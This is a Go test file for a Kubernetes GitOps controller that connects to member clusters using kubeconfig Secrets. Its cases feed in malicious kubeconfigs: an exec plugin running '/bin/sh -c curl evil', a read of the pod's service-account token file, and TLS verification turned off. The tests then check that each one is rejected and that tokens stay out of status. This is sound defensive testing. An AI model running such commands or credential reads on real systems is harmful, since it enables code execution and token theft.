package clusters

import (
	"encoding/pem"
	"net/http"
	"net/http/httptest"
	"os"
	"strings"
	"testing"
	"time"

	corev1 "k8s.io/api/core/v1"
	"k8s.io/apimachinery/pkg/api/meta"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/client-go/tools/clientcmd"
	clientcmdapi "k8s.io/client-go/tools/clientcmd/api"
	ctrl "sigs.k8s.io/controller-runtime"
	"sigs.k8s.io/controller-runtime/pkg/client"

	gitopsv1 "github.com/trustsync/trustsync/api/gitops/v1alpha1"
	"github.com/trustsync/trustsync/internal/testenv"
)

var hub *testenv.Env

func TestMain(m *testing.M) { os.Exit(testenv.Run(m, &hub)) }

// kubeconfig is e's kubeconfig (testenv.Env.Kubeconfig: cluster "envtest", user
// "admin"); edit changes it.
func kubeconfig(t *testing.T, e *testenv.Env, edit func(*clientcmdapi.Config)) []byte {
	t.Helper()
	data, err := e.Kubeconfig()
	if err != nil {
		t.Fatal(err)
	}
	cfg, err := clientcmd.Load(data)
	if err != nil {
		t.Fatal(err)
	}
	if edit != nil {
		edit(cfg)
	}
	if data, err = clientcmd.Write(*cfg); err != nil {
		t.Fatal(err)
	}
	return data
}

func reconcile(t *testing.T, c *gitopsv1.Cluster) (*gitopsv1.Cluster, ctrl.Result) {
	t.Helper()
	r := &Reconciler{Client: hub.Client, Secrets: hub.Client, PlatformNamespace: "trustsync-system", Options: Options{Timeout: 5 * time.Second}}
	res, err := r.Reconcile(t.Context(), ctrl.Request{NamespacedName: client.ObjectKeyFromObject(c)})
	if err != nil {
		t.Fatal(err)
	}
	got := &gitopsv1.Cluster{}
	if err := hub.Client.Get(t.Context(), client.ObjectKeyFromObject(c), got); err != nil {
		t.Fatal(err)
	}
	return got, res
}

// TestClusterContact: a Cluster whose kubeconfig Secret is in Cluster API's shape (or
// where spec.kubeConfig says) is contacted and reports its version and whom it took the
// hub for, impersonating the ServiceAccount it names; a missing Secret or key, a
// kubeconfig that would run a program or read the hub's files, and a cluster that does
// not answer are each reported with their reason, sooner retried, and no credential
// reaches the status.
func TestClusterContact(t *testing.T) {
	member, err := testenv.Start()
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = member.Stop() })
	ctx := t.Context()
	// An echoing server: whatever it is sent, it answers with, Authorization included.
	echo := httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		http.Error(w, "you sent "+r.Header.Get("Authorization"), http.StatusInternalServerError)
	}))
	t.Cleanup(echo.Close)
	const token = "s3cr3t-member-token-0123456789"

	tests := []struct {
		name    string
		spec    gitopsv1.ClusterSpec
		secret  string // name of the Secret written; none when empty
		key     string
		config  []byte
		status  metav1.ConditionStatus
		reason  string
		message []string
	}{
		{name: "capi", secret: "capi-kubeconfig", key: "value", config: kubeconfig(t, member, nil),
			status: metav1.ConditionTrue, reason: gitopsv1.ReasonConnected, message: []string{"Connected as ", "Kubernetes v1."}},
		{name: "custom", spec: gitopsv1.ClusterSpec{KubeConfig: gitopsv1.KubeConfigReference{SecretRef: &gitopsv1.LocalObjectReference{Name: "member-creds"}, Key: "config"}},
			secret: "member-creds", key: "config", config: kubeconfig(t, member, nil),
			status: metav1.ConditionTrue, reason: gitopsv1.ReasonConnected},
		{name: "as-serviceaccount", spec: gitopsv1.ClusterSpec{ServiceAccountName: "fleet"}, secret: "as-serviceaccount-kubeconfig", key: "value", config: kubeconfig(t, member, nil),
			status: metav1.ConditionTrue, reason: gitopsv1.ReasonConnected, message: []string{"Connected as system:serviceaccount:trustsync-system:fleet"}},
		{name: "no-secret", status: metav1.ConditionFalse, reason: gitopsv1.ReasonKubeConfigMissing, message: []string{"no Secret no-secret-kubeconfig"}},
		{name: "no-key", secret: "no-key-kubeconfig", key: "kubeconfig", config: kubeconfig(t, member, nil),
			status: metav1.ConditionFalse, reason: gitopsv1.ReasonKubeConfigMissing, message: []string{"has no key value"}},
		{name: "exec", secret: "exec-kubeconfig", key: "value", config: kubeconfig(t, member, func(c *clientcmdapi.Config) {
			c.AuthInfos["admin"].Exec = &clientcmdapi.ExecConfig{Command: "/bin/sh", Args: []string{"-c", "curl evil"}, APIVersion: "client.authentication.k8s.io/v1"}
		}), status: metav1.ConditionFalse, reason: gitopsv1.ReasonKubeConfigInvalid, message: []string{`runs a program (exec "/bin/sh")`}},
		{name: "token-file", secret: "token-file-kubeconfig", key: "value", config: kubeconfig(t, member, func(c *clientcmdapi.Config) {
			c.AuthInfos["admin"].TokenFile = "/var/run/secrets/kubernetes.io/serviceaccount/token"
		}), status: metav1.ConditionFalse, reason: gitopsv1.ReasonKubeConfigInvalid, message: []string{`reads tokenFile from the file "/var/run/secrets/kubernetes.io/serviceaccount/token"`}},
		{name: "insecure", secret: "insecure-kubeconfig", key: "value", config: kubeconfig(t, member, func(c *clientcmdapi.Config) {
			c.Clusters["envtest"].InsecureSkipTLSVerify, c.Clusters["envtest"].CertificateAuthorityData = true, nil
		}), status: metav1.ConditionFalse, reason: gitopsv1.ReasonKubeConfigInvalid, message: []string{"skips TLS verification"}},
		{name: "garbage", secret: "garbage-kubeconfig", key: "value", config: []byte("{not yaml: ["),
			status: metav1.ConditionFalse, reason: gitopsv1.ReasonKubeConfigInvalid, message: []string{"does not parse"}},
		{name: "echo", secret: "echo-kubeconfig", key: "value", config: kubeconfig(t, member, func(c *clientcmdapi.Config) {
			c.Clusters["envtest"].Server = echo.URL
			c.Clusters["envtest"].CertificateAuthorityData = pemOf(echo)
			c.AuthInfos["admin"] = &clientcmdapi.AuthInfo{Token: token}
		}), status: metav1.ConditionFalse, reason: gitopsv1.ReasonUnreachable, message: []string{"did not answer at " + echo.URL, "you sent Bearer [REDACTED]"}},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			if tc.secret != "" {
				s := &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Namespace: "default", Name: tc.secret}, Data: map[string][]byte{tc.key: tc.config}}
				if err := hub.Client.Create(ctx, s); err != nil {
					t.Fatal(err)
				}
			}
			c := &gitopsv1.Cluster{ObjectMeta: metav1.ObjectMeta{Namespace: "default", Name: tc.name}, Spec: tc.spec}
			if err := hub.Client.Create(ctx, c); err != nil {
				t.Fatal(err)
			}
			got, res := reconcile(t, c)
			cond := meta.FindStatusCondition(got.Status.Conditions, gitopsv1.ReadyCondition)
			if cond == nil || cond.Status != tc.status || cond.Reason != tc.reason {
				t.Fatalf("Ready %+v, want %s %s", cond, tc.status, tc.reason)
			}
			for _, m := range tc.message {
				if !strings.Contains(cond.Message, m) {
					t.Errorf("Ready says %q, want %q in it", cond.Message, m)
				}
			}
			if strings.Contains(cond.Message, token) {
				t.Errorf("the status shows the member's token: %q", cond.Message)
			}
			if tc.status == metav1.ConditionTrue {
				if !strings.HasPrefix(got.Status.ServerVersion, "v1.") || got.Status.LastContact == nil || res.RequeueAfter != time.Minute {
					t.Errorf("status %+v, requeue %s", got.Status, res.RequeueAfter)
				}
			} else if res.RequeueAfter != 15*time.Second {
				t.Errorf("a failed contact is retried after %s", res.RequeueAfter)
			}
		})
	}

	// The member stops: the Cluster says it is unreachable; nothing hangs.
	c := &gitopsv1.Cluster{ObjectMeta: metav1.ObjectMeta{Namespace: "default", Name: "capi"}}
	if err := member.Stop(); err != nil {
		t.Fatal(err)
	}
	stopped, _ := reconcile(t, c)
	if cond := meta.FindStatusCondition(stopped.Status.Conditions, gitopsv1.ReadyCondition); cond == nil || cond.Reason != gitopsv1.ReasonUnreachable {
		t.Errorf("a stopped member: %+v", cond)
	}
	if stopped.Status.ServerVersion == "" || stopped.Status.LastContact == nil {
		t.Error("a stopped member's last contact and version were forgotten")
	}
}

func pemOf(s *httptest.Server) []byte {
	return pemEncode(s.Certificate().Raw)
}

func pemEncode(der []byte) []byte {
	return pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: der})
}
